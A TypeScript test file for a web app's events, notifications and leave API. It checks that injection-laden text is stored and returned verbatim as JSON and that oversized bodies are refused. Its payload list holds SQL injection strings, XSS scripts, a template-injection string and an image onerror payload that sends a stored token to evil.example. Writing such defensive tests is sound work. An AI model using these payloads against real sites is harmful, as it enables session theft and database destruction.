import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { NASTY_STRINGS } from './hostile-arbitraries.ts';
import { bearer, createTestApp, createUser, type TestContext, type TestUser } from './test-app.ts';

/** Script, markup and SQL in stored text: kept and given back byte for byte, as JSON strings. */
const SEED = Number(process.env.HOSTILE_SEED ?? 20261121);
const PAYLOADS = [
  "Robert'); DROP TABLE users; --",
  '<script>alert(document.cookie)</script>',
  '<img src=x onerror="fetch(`//evil.example?c=`+localStorage.token)">',
  '"><svg/onload=alert(1)>',
  "' OR 1=1 --",
  '{{constructor.constructor("alert(1)")()}}',
  '\u202etxt.exe',
];

let ctx: TestContext;
let admin: TestUser;
let employee: TestUser;
beforeAll(async () => {
  ctx = await createTestApp();
  admin = await createUser(ctx, { role: 'Admin' });
  employee = await createUser(ctx, { role: 'Employee' });
}, 180_000);
afterAll(() => ctx.close());

/** Texts the schemas accept unchanged: no surrounding blanks (they are trimmed), within 200 characters. */
const storableText = fc
  .oneof(fc.constantFrom(...PAYLOADS, ...NASTY_STRINGS), fc.string({ minLength: 1, maxLength: 60 }))
  .filter(
    (text) => text.trim() === text && text.length > 0 && text.length <= 200 && !text.includes('\u0000'),
  );

describe('stored text stays inert', () => {
  it('event titles and descriptions come back verbatim, as JSON', async () => {
    await fc.assert(
      fc.asyncProperty(storableText, storableText, async (title, description) => {
        const created = await ctx.app.inject({
          method: 'POST',
          url: '/api/events',
          headers: bearer(employee),
          payload: { title, description, date: '2026-11-20', time: '17:00' },
        });
        expect(created.statusCode, created.body).toBe(201);
        expect(created.headers['content-type']).toContain('application/json');
        const list = await ctx.app.inject({ url: `/api/events/${employee.id}`, headers: bearer(employee) });
        const found = (list.json() as { _id: string; title: string; description: string }[]).find(
          (event) => event._id === (created.json() as { _id: string })._id,
        );
        expect(found).toMatchObject({ title, description });
      }),
      { seed: SEED, numRuns: 25 },
    );
  }, 120_000);

  it('notification messages and leave reasons come back verbatim', async () => {
    for (const message of PAYLOADS) {
      const sent = await ctx.app.inject({
        method: 'POST',
        url: '/api/admin/notifications',
        headers: bearer(admin),
        payload: { recipient: [employee.id], message },
      });
      expect(sent.statusCode, sent.body).toBe(201);
    }
    const inbox = await ctx.app.inject({
      url: `/api/employees/${employee.id}/notifications`,
      headers: bearer(employee),
    });
    const messages = (inbox.json() as { message: string }[]).map((n) => n.message);
    for (const message of PAYLOADS) expect(messages).toContain(message);

    const reason = PAYLOADS[2]!;
    const leave = await ctx.app.inject({
      method: 'POST',
      url: `/api/employees/${employee.id}/leaves`,
      headers: bearer(employee),
      payload: { type: 'Paid Leave', startDate: '2026-11-27', endDate: '2026-11-27', reason },
    });
    expect(leave.statusCode, leave.body).toBe(201);
    expect((leave.json() as { reason: string }).reason).toBe(reason);
  }, 120_000);
});

describe('oversized bodies', () => {
  const big = (field: string) => JSON.stringify({ [field]: 'x'.repeat(1024 * 1024 + 10) });

  it('answers 413 with a message for JSON over 1 MB, signed in or not', async () => {
    const login = await ctx.app.inject({
      method: 'POST',
      url: '/api/auth/login',
      headers: { 'content-type': 'application/json' },
      payload: big('email'),
    });
    const event = await ctx.app.inject({
      method: 'POST',
      url: '/api/events',
      headers: { ...bearer(employee), 'content-type': 'application/json' },
      payload: big('title'),
    });
    for (const res of [login, event]) {
      expect(res.statusCode).toBe(413);
      expect((res.json() as { message: string }).message).toMatch(/\S/);
    }
  }, 60_000);

  it('refuses an anonymous oversized body at the token check, before reading it', async () => {
    const res = await ctx.app.inject({
      method: 'POST',
      url: '/api/events',
      headers: { 'content-type': 'application/json' },
      payload: big('title'),
    });
    expect(res.statusCode).toBe(401);
  }, 60_000);
});
